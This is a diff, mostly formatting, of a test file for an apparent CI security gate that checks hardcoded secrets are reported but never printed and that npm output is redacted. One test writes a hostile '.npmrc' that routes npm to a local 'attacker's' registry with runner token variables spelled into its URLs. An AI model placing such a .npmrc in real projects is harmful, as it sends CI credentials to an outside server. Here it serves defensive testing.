@@ -53,9 +53,19 @@ const RUNNER_SECRETS = {
   ACTIONS_RUNTIME_TOKEN: 'eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.runtime-Rq8Zx2Lm7Wv3',
   ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.oidc-Kq4Zx9Lm2Wv7'
 }
-const RUNNER_ENV = { ...RUNNER_SECRETS, ACTIONS_ID_TOKEN_REQUEST_URL: 'https://pipelines.example/oidc', ACTIONS_RESULTS_URL: 'https://results.example/' }
+const RUNNER_ENV = {
+  ...RUNNER_SECRETS,
+  ACTIONS_ID_TOKEN_REQUEST_URL: 'https://pipelines.example/oidc',
+  ACTIONS_RESULTS_URL: 'https://results.example/'
+}
 /** A registry dependency, so npm audit has something to ask the advisory endpoint about. */
-const MS = { 'node_modules/ms': { version: '2.1.3', resolved: 'https://registry.npmjs.org/ms/-/ms-2.1.3.tgz', integrity: 'sha512-6FlzubTLZG3J2a/NVCAleEhjzq5oxgHyaCU9yYXvcLsvoVaHJq/s5xXI6/XXP6tz7R9xAOtHnSO/tXtF3WRTlA==' } }
+const MS = {
+  'node_modules/ms': {
+    version: '2.1.3',
+    resolved: 'https://registry.npmjs.org/ms/-/ms-2.1.3.tgz',
+    integrity: 'sha512-6FlzubTLZG3J2a/NVCAleEhjzq5oxgHyaCU9yYXvcLsvoVaHJq/s5xXI6/XXP6tz7R9xAOtHnSO/tXtF3WRTlA=='
+  }
+}
 /** One the workflow gives npm on purpose (setup-node's convention for a private registry). */
 const NODE_AUTH_TOKEN = 'nat_Lm5Wv0Kq3Zx8Rt2Yp7'
 
@@ -133,7 +143,10 @@ function everythingPrinted(run: ActionRun, github: FakeGitHub): Record<string, s
     summary: run.summary,
     report: file(run.outputs['report-path']),
     sarif: file(run.outputs['sarif-path']),
-    comments: github.comments(OWNER, REPO, PR_NUMBER).map((c) => c.body).join('\n'),
+    comments: github
+      .comments(OWNER, REPO, PR_NUMBER)
+      .map((c) => c.body)
+      .join('\n'),
     requests: JSON.stringify(github.requests.map((r) => [r.path, r.query, r.body]))
   }
 }
@@ -143,34 +156,48 @@ function allLeaks(printed: Record<string, string>, secrets: readonly string[]): 
 }
 
 describe('hardcoded secrets are reported, never printed', () => {
-  it.concurrent('action: stdout, stderr, outputs, summary, JSON report, SARIF, annotations and the comment hold no secret, nor the tokens', async () => {
-    const { github, run } = await servers()
-    const workspace = await makeWorkspace()
-    secretRepository(workspace)
-    const files = ['src/app.js', 'src/config.js', 'certs/server.key', '.env', '.npmrc', 'docker-compose.yml', 'Dockerfile']
-    github.seedPullFiles(OWNER, REPO, PR_NUMBER, files.map((filename) => ({ filename, status: 'added' as const })))
-    const result = await run({ workspace, inputs: { install: 'false' }, env: RUNNER_ENV })
+  it.concurrent(
+    'action: stdout, stderr, outputs, summary, JSON report, SARIF, annotations and the comment hold no secret, nor the tokens',
+    async () => {
+      const { github, run } = await servers()
+      const workspace = await makeWorkspace()
+      secretRepository(workspace)
+      const files = ['src/app.js', 'src/config.js', 'certs/server.key', '.env', '.npmrc', 'docker-compose.yml', 'Dockerfile']
+      github.seedPullFiles(
+        OWNER,
+        REPO,
+        PR_NUMBER,
+        files.map((filename) => ({ filename, status: 'added' as const }))
+      )
+      const result = await run({ workspace, inputs: { install: 'false' }, env: RUNNER_ENV })
 
-    const rules = new Set(result.reportJson?.findings.map((f) => f.rule))
-    for (const rule of ['hardcoded-secret', 'session-secret-hardcoded', 'env-file-committed', 'docker-secret-env']) expect(rules).toContain(rule)
-    // Every secret is reported somewhere, so the assertion below is about secrets the gate saw.
-    const secretFindings = result.reportJson?.findings.filter((f) => /secret|env-file/.test(f.rule)) ?? []
-    expect(secretFindings.length).toBeGreaterThanOrEqual(15)
-    expect(result.stdout).toMatch(/^::error /m)
+      const rules = new Set(result.reportJson?.findings.map((f) => f.rule))
+      for (const rule of ['hardcoded-secret', 'session-secret-hardcoded', 'env-file-committed', 'docker-secret-env'])
+        expect(rules).toContain(rule)
+      // Every secret is reported somewhere, so the assertion below is about secrets the gate saw.
+      const secretFindings = result.reportJson?.findings.filter((f) => /secret|env-file/.test(f.rule)) ?? []
+      expect(secretFindings.length).toBeGreaterThanOrEqual(15)
+      expect(result.stdout).toMatch(/^::error /m)
 
-    const printed = everythingPrinted(result, github)
-    expect(printed.comments).toContain('<!-- express-hardening-gate:')
-    expect(allLeaks(printed, [...SECRETS, TOKEN, ...Object.values(RUNNER_SECRETS)])).toEqual([])
-  }, 90_000)
+      const printed = everythingPrinted(result, github)
+      expect(printed.comments).toContain('<!-- express-hardening-gate:')
+      expect(allLeaks(printed, [...SECRETS, TOKEN, ...Object.values(RUNNER_SECRETS)])).toEqual([])
+    },
+    90_000
+  )
 
-  it.concurrent.each(['text', 'markdown', 'json', 'sarif'])('CLI --format %s prints no secret', async (format) => {
-    const root = tempDir('ehg-sec-secrets-')
-    secretRepository(root)
-    const run = await runCli([root, '--no-install', '--no-audit', '--no-sbom', '--format', format], { cwd: root, env: cleanEnv() })
-    expect(run.code).toBe(1)
-    expect(run.stdout).toMatch(/hardcoded-secret/)
-    expect(allLeaks({ stdout: run.stdout, stderr: run.stderr }, SECRETS)).toEqual([])
-  }, 60_000)
+  it.concurrent.each(['text', 'markdown', 'json', 'sarif'])(
+    'CLI --format %s prints no secret',
+    async (format) => {
+      const root = tempDir('ehg-sec-secrets-')
+      secretRepository(root)
+      const run = await runCli([root, '--no-install', '--no-audit', '--no-sbom', '--format', format], { cwd: root, env: cleanEnv() })
+      expect(run.code).toBe(1)
+      expect(run.stdout).toMatch(/hardcoded-secret/)
+      expect(allLeaks({ stdout: run.stdout, stderr: run.stderr }, SECRETS)).toEqual([])
+    },
+    60_000
+  )
 
   it('the leak check itself finds a secret cut short or embedded', () => {
     expect(pieces('abcdefghij')).toEqual(['abcdefgh', 'bcdefghi', 'cdefghij'])
@@ -196,59 +223,81 @@ async function captureServer(): Promise<{ url: string; seen: string[]; close(): 
   return {
     url: `http://127.0.0.1:${port}`,
     seen,
-    close: () => new Promise<void>((resolve) => {
-      server.closeAllConnections()
-      server.close(() => resolve())
-    })
+    close: () =>
+      new Promise<void>((resolve) => {
+        server.closeAllConnections()
+        server.close(() => resolve())
+      })
   }
 }
 
-describe('the repository .npmrc cannot read our tokens, and npm\'s error text is redacted', () => {
-  it.concurrent('${VAR} in .npmrc: the runner\'s tokens never reach npm; a secret the workflow gives npm never reaches the report', async () => {
-    const capture = await captureServer()
-    try {
-      const { github, run } = await servers()
-      const workspace = await makeWorkspace()
-      const host = capture.url.replace(/^http:/, '')
-      writeTree(workspace, {
-        'package.json': JSON.stringify({ name: 'exfil-app', version: '1.0.0', dependencies: { ms: '2.1.3' } }),
-        'package-lock.json': lockfile('exfil-app', { ms: '2.1.3' }, MS),
-        // Everything npm sends goes to the "attacker's" registry, with our variables spelled into it.
-        '.npmrc': [
-          `registry=${capture.url}/\${NODE_AUTH_TOKEN}/\${INPUT_GITHUB-TOKEN}/\${ACTIONS_RUNTIME_TOKEN}/`,
-          `${host}/:_authToken=\${ACTIONS_ID_TOKEN_REQUEST_TOKEN}`,
-          `${host}/\${NODE_AUTH_TOKEN}/\${INPUT_GITHUB-TOKEN}/\${ACTIONS_RUNTIME_TOKEN}/:_authToken=\${ACTIONS_ID_TOKEN_REQUEST_TOKEN}`,
-          'fetch-retries=0',
-          ''
-        ].join('\n')
-      })
-      const result = await run({
-        workspace,
-        inputs: { install: 'false', sbom: 'false', 'on-audit-error': 'warn' },
-        // No registry from the workflow: the repository's .npmrc chooses it, as on a plain runner.
-        env: { ...RUNNER_ENV, NODE_AUTH_TOKEN, npm_config_registry: undefined }
-      })
+describe("the repository .npmrc cannot read our tokens, and npm's error text is redacted", () => {
+  it.concurrent(
+    "${VAR} in .npmrc: the runner's tokens never reach npm; a secret the workflow gives npm never reaches the report",
+    async () => {
+      const capture = await captureServer()
+      try {
+        const { github, run } = await servers()
+        const workspace = await makeWorkspace()
+        const host = capture.url.replace(/^http:/, '')
+        writeTree(workspace, {
+          'package.json': JSON.stringify({ name: 'exfil-app', version: '1.0.0', dependencies: { ms: '2.1.3' } }),
+          'package-lock.json': lockfile('exfil-app', { ms: '2.1.3' }, MS),
+          // Everything npm sends goes to the "attacker's" registry, with our variables spelled into it.
+          '.npmrc': [
+            `registry=${capture.url}/\${NODE_AUTH_TOKEN}/\${INPUT_GITHUB-TOKEN}/\${ACTIONS_RUNTIME_TOKEN}/`,
+            `${host}/:_authToken=\${ACTIONS_ID_TOKEN_REQUEST_TOKEN}`,
+            `${host}/\${NODE_AUTH_TOKEN}/\${INPUT_GITHUB-TOKEN}/\${ACTIONS_RUNTIME_TOKEN}/:_authToken=\${ACTIONS_ID_TOKEN_REQUEST_TOKEN}`,
+            'fetch-retries=0',
+            ''
+          ].join('\n')
+        })
+        const result = await run({
+          workspace,
+          inputs: { install: 'false', sbom: 'false', 'on-audit-error': 'warn' },
+          // No registry from the workflow: the repository's .npmrc chooses it, as on a plain runner.
+          env: { ...RUNNER_ENV, NODE_AUTH_TOKEN, npm_config_registry: undefined }
+        })
 
-      // npm did expand the .npmrc: the secret the workflow handed npm reached the repository's server
-      // (the residual risk README states), so the absence of the others below means something.
-      expect(capture.seen.some((r) => r.includes(NODE_AUTH_TOKEN))).toBe(true)
-      expect(allLeaks({ registry: capture.seen.join('\n') }, [TOKEN, ...Object.values(RUNNER_SECRETS)])).toEqual([])
+        // npm did expand the .npmrc: the secret the workflow handed npm reached the repository's server
+        // (the residual risk README states), so the absence of the others below means something.
+        expect(capture.seen.some((r) => r.includes(NODE_AUTH_TOKEN))).toBe(true)
+        expect(allLeaks({ registry: capture.seen.join('\n') }, [TOKEN, ...Object.values(RUNNER_SECRETS)])).toEqual([])
 
-      // npm's error names the URL it failed on; the report says so without the secret in it.
-      expect(result.reportJson?.audit.status).toBe('error')
-      expect(result.reportJson?.audit.error).toMatch(/\*\*\*/)
-      expect(allLeaks(everythingPrinted(result, github), [NODE_AUTH_TOKEN, TOKEN, ...Object.values(RUNNER_SECRETS)])).toEqual([])
-    } finally {
-      await capture.close()
-    }
-  }, 90_000)
+        // npm's error names the URL it failed on; the report says so without the secret in it.
+        expect(result.reportJson?.audit.status).toBe('error')
+        expect(result.reportJson?.audit.error).toMatch(/\*\*\*/)
+        expect(allLeaks(everythingPrinted(result, github), [NODE_AUTH_TOKEN, TOKEN, ...Object.values(RUNNER_SECRETS)])).toEqual([])
+      } finally {
+        await capture.close()
+      }
+    },
+    90_000
+  )
 
   it('npmEnv keeps the action inputs and the runner tokens from npm, and pins git and node-options', () => {
-    const env = npmEnv({ PATH: '/bin', 'INPUT_GITHUB-TOKEN': TOKEN, INPUT_CONFIG: 'x', ...RUNNER_SECRETS, ACTIONS_CACHE_URL: 'https://cache', ACTIONS_STEP_DEBUG: 'true', NODE_AUTH_TOKEN })
+    const env = npmEnv({
+      PATH: '/bin',
+      'INPUT_GITHUB-TOKEN': TOKEN,
+      INPUT_CONFIG: 'x',
+      ...RUNNER_SECRETS,
+      ACTIONS_CACHE_URL: 'https://cache',
+      ACTIONS_STEP_DEBUG: 'true',
+      NODE_AUTH_TOKEN
+    })
     expect(Object.keys(env).filter((k) => /^(INPUT_|ACTIONS_(RUNTIME|ID_TOKEN|CACHE))/i.test(k))).toEqual([])
-    expect(env).toMatchObject({ PATH: '/bin', ACTIONS_STEP_DEBUG: 'true', NODE_AUTH_TOKEN, npm_config_git: 'git', npm_config_node_options: '--stack-trace-limit=10' })
+    expect(env).toMatchObject({
+      PATH: '/bin',
+      ACTIONS_STEP_DEBUG: 'true',
+      NODE_AUTH_TOKEN,
+      npm_config_git: 'git',
+      npm_config_node_options: '--stack-trace-limit=10'
+    })
     // A workflow's own choice stays.
-    expect(npmEnv({ NPM_CONFIG_GIT: '/opt/git', NODE_OPTIONS: '--max-old-space-size=4096' })).toMatchObject({ NPM_CONFIG_GIT: '/opt/git', npm_config_node_options: '--max-old-space-size=4096' })
+    expect(npmEnv({ NPM_CONFIG_GIT: '/opt/git', NODE_OPTIONS: '--max-old-space-size=4096' })).toMatchObject({
+      NPM_CONFIG_GIT: '/opt/git',
+      npm_config_node_options: '--max-old-space-size=4096'
+    })
     expect(npmEnv({ NPM_CONFIG_GIT: '/opt/git' })).not.toHaveProperty('npm_config_git')
   })
 
@@ -263,12 +312,30 @@ describe('the repository .npmrc cannot read our tokens, and npm\'s error text is
     expect(result.code).toBe(0)
     expect(result.stdout).toContain('GET https://registry.example/***/pkg failed')
     expect(result.stderr).toContain('https://user:***@db.example/x')
-    expect(allLeaks({ stdout: result.stdout, stderr: result.stderr }, [NODE_AUTH_TOKEN, 'apikey-Zx7Lm2Wv9Kq4', S.mongoPassword, S.envToken, S.github, S.npm, S.stripe, S.aws])).toEqual([])
+    expect(
+      allLeaks({ stdout: result.stdout, stderr: result.stderr }, [
+        NODE_AUTH_TOKEN,
+        'apikey-Zx7Lm2Wv9Kq4',
+        S.mongoPassword,
+        S.envToken,
+        S.github,
+        S.npm,
+        S.stripe,
+        S.aws
+      ])
+    ).toEqual([])
   })
 
   it('secretValues picks credential-named variables only, long ones first', () => {
-    expect(secretValues({ GITHUB_TOKEN: 'ghs_short1234', HOME: '/home/runner/long-path', PORT: '30000000', DB_PASSWORD: 'p4ssw0rd-longer-one', NPM_CONFIG__AUTH: 'dXNlcjpwYXNz' }))
-      .toEqual(['p4ssw0rd-longer-one', 'ghs_short1234', 'dXNlcjpwYXNz'])
+    expect(
+      secretValues({
+        GITHUB_TOKEN: 'ghs_short1234',
+        HOME: '/home/runner/long-path',
+        PORT: '30000000',
+        DB_PASSWORD: 'p4ssw0rd-longer-one',
+        NPM_CONFIG__AUTH: 'dXNlcjpwYXNz'
+      })
+    ).toEqual(['p4ssw0rd-longer-one', 'ghs_short1234', 'dXNlcjpwYXNz'])
     expect(redactSecrets('token ghs_short1234 at /home/runner/long-path', ['ghs_short1234'])).toBe('token *** at /home/runner/long-path')
   })
 
@@ -276,7 +343,10 @@ describe('the repository .npmrc cannot read our tokens, and npm\'s error text is
     const registry = await startFakeRegistry({ bulkStatus: 503 })
     try {
       const root = tempDir('ehg-sec-audit-')
-      writeTree(root, { 'package.json': JSON.stringify({ name: 'a', version: '1.0.0', dependencies: { ms: '2.1.3' } }), 'package-lock.json': lockfile('a', { ms: '2.1.3' }, MS) })
+      writeTree(root, {
+        'package.json': JSON.stringify({ name: 'a', version: '1.0.0', dependencies: { ms: '2.1.3' } }),
+        'package-lock.json': lockfile('a', { ms: '2.1.3' }, MS)
+      })
       const password = 'RegPa55-Zx7Lm2Wv9'
       const env = { ...hermeticNpmEnv(registry.url.replace('http://', `http://user:${password}@`), tempDir('ehg-sec-npm-')) }
       const run = await runCli([root, '--no-install', '--no-sbom', '--format', 'json'], { cwd: root, env: env as NodeJS.ProcessEnv })
